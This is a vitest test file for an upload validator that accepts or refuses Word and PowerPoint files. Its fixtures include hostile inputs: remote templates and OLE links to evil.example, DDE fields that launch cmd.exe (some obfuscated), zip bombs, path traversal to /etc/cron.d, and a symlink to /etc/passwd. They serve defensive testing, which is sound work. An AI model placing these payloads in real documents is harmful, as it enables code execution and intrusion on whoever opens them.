import { describe, expect, it } from 'vitest';
import { AT_LENGTH } from '../../../../tests/faults/length.ts';
import { docx, officeParts, pptx } from '../fixtures/documents.ts';
import { oleOf } from '../fixtures/ole.ts';
import { type Made, noise, relativeCost, verdict } from '../fixtures/verdict.ts';
import { type ZipPart, zipOf } from '../fixtures/zip.ts';

const NOT_WORD =
	'415 This file is damaged, or is not a Word document (.docx). Open it, save it again and upload that.';
const MACROS = '422 This file contains macros. Please save it without them and upload it again.';
const LOCKED =
	'422 This file is locked with a password. Please remove it and upload the file again.';
const SWELLS =
	'422 This file unpacks to more than it should. Save it again in another format (a document as PDF, a table as CSV) and upload that.';
const UNSAFE = '422 This file is built in a way that is not safe to open.';
const PROGRAM =
	'422 This file has a field or a button in it that starts a program. Please remove that and upload it again.';
const REMOTE =
	'422 This file loads a template or an object from elsewhere when it is opened. Please remove that and upload it again.';

const GIB = 1024 ** 3;
const docxWith =
	(...parts: ZipPart[]): Made =>
	() =>
		docx('', ...parts);

const rels = (data: string | Buffer): ZipPart => ({ name: 'word/_rels/settings.xml.rels', data });
const outside = (type: string, target: string) =>
	rels(
		`<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
	);

const slides = (count: number) =>
	Array.from({ length: count }, (_, at): ZipPart[] => [
		{ name: `ppt/slides/slide${at}.xml`, data: `<slide n="${at}"/>` },
		{ name: `ppt/slides/_rels/slide${at}.xml.rels`, data: '<Relationships/>' },
	]).flat();

const stored = (count: number) =>
	Array.from({ length: count }, (_, at): ZipPart => ({ name: `word/${at}`, stored: true }));

/** Makes a Word document with one more content type. */
const listing = (type: string) => () => {
	const [types, ...rest] = officeParts('docx') as [ZipPart, ...ZipPart[]];
	return zipOf([
		{ ...types, data: `${types.data}<Default Extension="bin" ContentType="${type}"/>` },
		...rest,
	]);
};

const withBrokenTypes = () => {
	const [types, ...rest] = officeParts('docx') as [ZipPart, ...ZipPart[]];
	const file = zipOf([{ ...types, data: noise(500) }, ...rest]);
	return file.fill(0xff, 49, 200);
};

describe('an Office file', () => {
	it.each<[string, Made]>([
		[
			'with a numbered main part',
			() => zipOf([...officeParts('docx').slice(0, 2), { name: 'word/document2.xml' }]),
		],
		[
			'with a picture that packs well',
			docxWith(
				{ name: 'a.bmp', data: Buffer.alloc(60_000) },
				{ name: 'b.png', data: noise(3_000), stored: true },
			),
		],
		[
			'made from a template on its author’s machine',
			docxWith(outside('attachedTemplate', 'file:///C:\\Users\\Asha\\Paper.dotx')),
		],
		[
			'made from a template on its author’s Mac',
			docxWith(outside('attachedTemplate', 'file:///Users/jane/Exam.dotx')),
		],
		[
			'with a drawing that packs well',
			docxWith({ name: 'word/a', data: Buffer.alloc(40 * 1024 ** 2) }),
		],
		[
			'whose parts begin with a slash',
			() =>
				zipOf(
					officeParts('docx').map((part, n) => ({
						...part,
						name: `${n ? '/' : './'}${part.name}`,
					})),
				),
		],
		['with links to click', docxWith(outside('hyperlink', 'https://example.org/'))],
		['with a picture from a web page', docxWith(outside('image', 'https://example.org/a.png'))],
		['with an equation of an old kind', docxWith({ name: 'word/embeddings/oleObject1.bin' })],
	])('%s is fine', async (_, make) => expect(await verdict('docx', make)).toBe('fine'));

	it('with hundreds of slides is fine', async () =>
		expect(await verdict('pptx', () => pptx('', ...slides(600)))).toBe('fine'));

	it.each<[string, Made]>([
		['that is an empty zip file', () => zipOf([])],
		['cut short', () => docx().subarray(0, -60)],
		['without the list of types', () => zipOf(officeParts('docx').slice(1))],
		['whose list of types does not unpack', withBrokenTypes],
		['with a part outside of it', docxWith({ name: '../../etc/cron.d/x' })],
		[
			'with relations that are longer than they say',
			docxWith({ ...rels(' '.repeat(5_000)), declared: { unpacked: 10 } }),
		],
	])('%s is none', async (_, make) => expect(await verdict('docx', make)).toBe(NOT_WORD));

	it.each<[string, string, Made]>([
		['macros', MACROS, docxWith({ name: 'word/vbaProject.bin', data: 'x' })],
		['macros in capitals', MACROS, docxWith({ name: 'word/VBAPROJECT.BIN', data: 'x' })],
		['macros under another name', MACROS, listing('application/vnd.ms-office.vbaProject')],
		[
			'the type of one with macros',
			MACROS,
			listing('application/vnd.ms-word.document.macroEnabled.main+xml'),
		],
		['a password', LOCKED, () => oleOf([{ name: 'EncryptionInfo' }, { name: 'EncryptedPackage' }])],
		['a locked part', LOCKED, docxWith({ name: 'word/a', data: 'x', flags: 1 })],
		[
			'nothing but locked zip files',
			LOCKED,
			() =>
				zipOf(
					[...'0123456789abcdef'].map((digit) => ({
						name: `lib ${digit}.zip`,
						data: noise(2_000),
						flags: 1,
					})),
				),
		],
		[
			'a template from a web site',
			REMOTE,
			docxWith(outside('attachedTemplate', 'http://evil.example/a.dotm')),
		],
		[
			'a template from a share',
			REMOTE,
			docxWith(outside('attachedTemplate', 'file:///\\\\evil.example\\share\\a.dotm')),
		],
		[
			'a linked object',
			REMOTE,
			docxWith(outside('oleObject', 'mhtml:https://evil.example/!x-usc:https://evil.example')),
		],
		[
			'a disguised template',
			REMOTE,
			docxWith(
				rels(
					`<r:Relationship Id="x TargetMode='Internal'" Type='a/attached&#84;emplate' TargetMode = '&#69;xternal' Target='a>b'/>`,
				),
			),
		],
		[
			'relations in another encoding',
			REMOTE,
			docxWith(rels(Buffer.from('<Relationship/>', 'utf16le'))),
		],
		[
			'relations with entities',
			REMOTE,
			docxWith(rels('<!DOCTYPE a [<!ENTITY e "External">]><a/>')),
		],
		['10 GiB in one part', SWELLS, docxWith({ name: 'word/a', declared: { unpacked: 10 * GIB } })],
		[
			'more than 200 MiB',
			SWELLS,
			docxWith({ name: 'word/a', data: noise(3_000_000), declared: { unpacked: 201 * 1024 ** 2 } }),
		],
		[
			'more than 100 times its size',
			SWELLS,
			docxWith({ name: 'word/a', data: Buffer.alloc(51 * 1024 ** 2) }),
		],
		['more than 2,000 parts', SWELLS, docxWith(...stored(1_998))],
		[
			'relations of 5 MB',
			SWELLS,
			docxWith(rels('<'.padEnd(5_000_000)), { name: 'b', data: noise(400_000) }),
		],
		[
			'parts that share their bytes',
			UNSAFE,
			docxWith(
				...stored(50).map((part) => ({ ...part, data: noise(5_000), declared: { offset: 700 } })),
			),
		],
		[
			'a link to elsewhere',
			UNSAFE,
			docxWith({ name: 'word/a', data: '/etc/passwd', mode: 0o120777 }),
		],
		['two main parts of one name', UNSAFE, docxWith({ name: 'Word/Document.xml' })],
	])('with %s is refused', async (_, refusal, make) =>
		expect(await verdict('docx', make)).toBe(refusal),
	);

	it('of 3,000 parts is refused, and of 100,000 in no time', async () => {
		const bomb = docx('', ...stored(AT_LENGTH ? 100_000 : 3_000));
		expect(await verdict('docx', () => bomb)).toBe(SWELLS);
		if (AT_LENGTH) expect(await relativeCost('docx', bomb)).toBeLessThan(3);
	});

	it.runIf(AT_LENGTH).each<[string, ZipPart[]]>([
		['2,000 parts', slides(998)],
		[
			'4 MB of relations',
			[rels('<Relationship '.repeat(290_000)), { name: 'b', data: noise(400_000) }],
		],
	])('with %s is looked through in no time', async (_, parts) =>
		expect(await relativeCost('docx', docx('', ...parts))).toBeLessThan(40),
	);
});

const footer = (data: string): ZipPart => ({ name: 'word/footer1.xml', data });
const field = (...codes: string[]) =>
	footer(
		`<w:r><w:fldChar w:fldCharType="begin"/>${codes.map((code) => `<w:instrText xml:space="preserve">${code}</w:instrText>`).join('</w:r><w:r>')}<w:fldChar w:fldCharType="end"/></w:r>`,
	);
const slide = (data: string): ZipPart => ({ name: 'ppt/slides/slide1.xml', data });

describe('an Office file that starts programs', () => {
	it.each<[string, ZipPart]>([
		['a field of DDE', field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')],
		['a field of DDE in pieces', field(' D', 'DE', 'AUTO "cmd" "x"')],
		['a field of DDE in letters by number', field('&#68;&#x44;E cmd')],
		['a field of DDE in one element', footer(`<w:fldSimple w:instr=' ddeauto cmd'/>`)],
		[
			'a field of DDE behind an attribute with a bracket',
			footer(`<w:fldSimple w:x="a>b" w:instr=" DDE cmd"/>`),
		],
		[
			'a piece of a DDE field with a bracket in an attribute',
			footer(`<w:instrText w:x="a>b">DDE cmd</w:instrText>`),
		],
	])('is refused as a document with %s', async (_, part) =>
		expect(await verdict('docx', docxWith(part))).toBe(PROGRAM),
	);

	it.each<[string, ZipPart]>([
		['the number of the page', field(' PAGE \\* MERGEFORMAT ')],
		['a text about DDE', footer('<w:t>DDEAUTO starts a program.</w:t>')],
	])('is not taken for a document with %s', async (_, part) =>
		expect(await verdict('docx', docxWith(part))).toBe('fine'),
	);

	it('is refused as slides with a click on a program, and not on another slide', async () => {
		const click = (action: string) => () =>
			pptx('', slide(`<a:hlinkClick r:id="r" action="ppaction://${action}"/>`));
		expect(await verdict('pptx', click('program'))).toBe(PROGRAM);
		expect(await verdict('pptx', click('hlinksldjump'))).toBe('fine');
	});
});
